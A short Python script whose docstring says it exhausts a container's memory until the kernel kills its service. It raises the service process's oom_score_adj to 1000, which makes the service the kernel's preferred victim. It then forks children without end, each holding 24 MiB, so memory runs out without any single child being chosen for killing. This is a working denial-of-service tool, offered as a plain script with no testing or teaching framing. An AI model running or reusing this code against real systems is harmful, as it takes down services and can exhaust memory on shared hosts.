"""Fills the memory of a container until the kernel ends its service.

The kernel takes the process with the highest score, which grows with the memory that it holds itself, so that
many processes hold a little each and the service more than any of them. A process may raise the score of
another one of its user: https://man7.org/linux/man-pages/man5/proc_pid_oom_score_adj.5.html
Process 1 is tini, which passes signals on; its child is the service.
"""

import os
import signal
import time
from pathlib import Path

_PIECE = 24 * 2**20


def main() -> None:
    for child in Path("/proc/1/task/1/children").read_text().split():
        Path("/proc", child, "oom_score_adj").write_text("1000")
    while True:
        if os.fork() == 0:
            held = b"x" * _PIECE
            signal.pause()
            del held
        time.sleep(0.02)


if __name__ == "__main__":
    main()
